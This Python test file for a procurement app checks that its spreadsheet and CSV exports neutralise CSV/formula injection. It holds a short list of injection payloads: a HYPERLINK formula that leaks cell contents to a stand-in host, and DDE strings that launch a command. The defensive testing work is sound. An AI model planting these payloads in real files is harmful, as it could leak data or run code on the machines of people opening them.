"""Every spreadsheet the app writes keeps a hostile text as text: a vendor's name, a budget line's
label, a price item's designation or a COUNTER title that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return never becomes a formula when the file is opened. Numbers stay numbers,
a negative remainder included. Each export is read through the page or command that serves it."""

import csv
import json
import zipfile
from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from django.db import connections
from django.urls import reverse
from openpyxl import load_workbook

from procurement.contracts.models import PurchaseOrder
from procurement.core.exports import csv_row, formula_like
from procurement.resources.counter.writer import Item, Report, to_delimited, to_xlsx
from procurement.tenders.management.commands.generate_dce import Command as GenerateDce
from procurement.tenders.models import PriceItem
from tests.contracts.factories import ContractFactory, awarded_lot
from tests.documents.utils import framework_tender
from tests.programmes.factories import BudgetCreditFactory, BudgetLineFactory
from tests.tenders.factories import BidFactory, LotFactory, TenderFactory
from tests.vendors.factories import VendorFactory

HOSTILE = ['=HYPERLINK("https://exemple.invalid/?"&A1,"Cliquez")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def formulas_in(content: bytes) -> list[str]:
    """The formulas stored in the workbook's sheets, as the XML holds them."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return [formula.split("</f>")[0] for name in archive.namelist() if name.startswith("xl/worksheets/")
                for formula in archive.read(name).decode().split("<f>")[1:]]


def text_cells(sheet) -> dict[str, str]:
    """The cells written as quoted text (what Excel keeps as text even when the cell is edited)."""
    return {cell.coordinate: cell.value for row in sheet.iter_rows() for cell in row
            if cell.data_type == "s" and cell.quotePrefix}


def test_formula_like_texts_are_recognised_and_plain_numbers_are_not():
    assert all(formula_like(text) for text in HOSTILE)
    assert not any(formula_like(value) for value in ["-12,50", "+33", "-7", "Médiathèque", "", -12, Decimal("-3"),
                                                     None, "12 = 12"])
    assert csv_row(["=1+1", "-5", -5, "Lyon"]) == ["'=1+1", "-5", -5, "Lyon"]


@pytest.mark.django_db
@pytest.mark.parametrize("name", HOSTILE)
def test_the_bids_register_writes_a_hostile_vendor_name_as_text(name, client_for, buyer):
    lot = LotFactory(tender=TenderFactory(opened=True))
    BidFactory(lot=lot, compliant=True, vendor__name=name)
    response = client_for(buyer).get(f"/consultations/{lot.tender.reference}/registre-des-depots.xlsx")
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet["B3"].value == name and sheet["B3"].data_type == "s" and sheet["B3"].quotePrefix
    assert sheet["G3"].value == 98000 and sheet["G3"].data_type == "n"  # the amount is still a number


@pytest.mark.django_db
@pytest.mark.parametrize("label", HOSTILE[:3])
def test_the_finance_workbook_writes_hostile_labels_as_text_and_a_negative_remainder_as_a_number(
        label, finance_user, client_for):
    line = BudgetLineFactory(operating=True, label=label)
    BudgetCreditFactory(budget_line=line, year=2026, amount_ttc=Decimal("5000.00"))
    contract = ContractFactory(notified=True, framework=True, budget_line=line, start_date=date(2026, 1, 1),
                               vat_rate=Decimal("5.5"), lot=awarded_lot(is_framework=True, vat_rate=Decimal("5.5"),
                                                                        vendor=VendorFactory(name=HOSTILE[3])))
    PurchaseOrder.objects.create(contract=contract, number=1, ordered_on=date(2026, 2, 2), description="Crédits",
                                 amount_ht=Decimal("10000.00"), vat_rate=Decimal("5.5"))
    response = client_for(finance_user).get(reverse("dashboards:finance-xlsx") + "?year_from=2026&year_to=2026")
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    book = load_workbook(BytesIO(response.content))
    lines = book["Par ligne"]
    assert lines["B2"].value == label and lines["B2"].data_type == "s" and lines["B2"].quotePrefix
    assert lines["I2"].data_type == "n" and Decimal(str(lines["I2"].value)) == Decimal("-5550")  # 5 000 − 10 550
    assert HOSTILE[3] in text_cells(book["Par marché"]).values()


@pytest.mark.django_db
def test_the_price_schedule_of_the_dce_writes_hostile_designations_as_text(capsys, tmp_path, settings, monkeypatch,
                                                                         buyer):
    settings.MEDIA_ROOT = tmp_path / "media"
    monkeypatch.setattr(connections, "close_all", lambda: None)  # run_from_argv would end the test's transaction
    tender = framework_tender(lots=1, dce=False)
    PriceItem.objects.filter(lot__tender=tender, number="1.1").update(label=HOSTILE[0], unit=HOSTILE[4])
    PriceItem.objects.filter(lot__tender=tender, number="1.2").update(label=HOSTILE[2])
    GenerateDce().run_from_argv(["manage.py", "generate_dce", "--user", buyer.username, "--tender", tender.reference,
                                 "--output", str(tmp_path / "dce"), "--format", "json"])
    name = next(name for name in json.loads(capsys.readouterr().out)["files"] if name.endswith(".xlsx"))
    content = (tmp_path / "dce" / name).read_bytes()
    assert formulas_in(content) == ["D6*E6", "D7*E7", "SUM(F6:F7)"]  # the schedule's own formulas only
    sheet = load_workbook(BytesIO(content))["Lot 1"]
    assert (sheet["B6"].value, sheet["C6"].value, sheet["B7"].value) == (HOSTILE[0], HOSTILE[4], HOSTILE[2])
    assert {sheet["B6"].data_type, sheet["C6"].data_type, sheet["B7"].data_type} == {"s"}
    assert sheet["B6"].quotePrefix and sheet["C6"].quotePrefix and sheet["B7"].quotePrefix
    assert sheet["D7"].data_type == "n" and sheet["D7"].value == 1200


def _counter_report(title: str) -> Report:
    return Report(report_id="TR_B1", release="5.1", platform="Numilib", institution_name="Médiathèque",
                  institution_id={"ISIL": "FR-1"}, begin=date(2025, 1, 1), end=date(2025, 2, 28),
                  items=[Item(name=title, counts={"Total_Item_Requests": [3, 4]})])


@pytest.mark.parametrize("title", HOSTILE)
def test_the_counter_writer_keeps_a_hostile_title_as_text(title, tmp_path):
    last = to_delimited(_counter_report(title), delimiter=",").rstrip("\n").split("\n")[-1]
    # csv.reader refuses a bare carriage return inside a line (the writer ends lines with \n only).
    row = [cell.replace("\u240d", "\r") for cell in next(csv.reader([last.replace("\r", "\u240d")]))]
    assert row[0] == f"'{title}" and row[-4:] == ["Total_Item_Requests", "7", "3", "4"]
    to_xlsx(_counter_report(title), tmp_path / "rapport.xlsx")
    content = (tmp_path / "rapport.xlsx").read_bytes()
    assert formulas_in(content) == []
    sheet = load_workbook(BytesIO(content)).active
    last = sheet.max_row
    assert sheet.cell(last, 1).value == title and sheet.cell(last, 14).value == 3
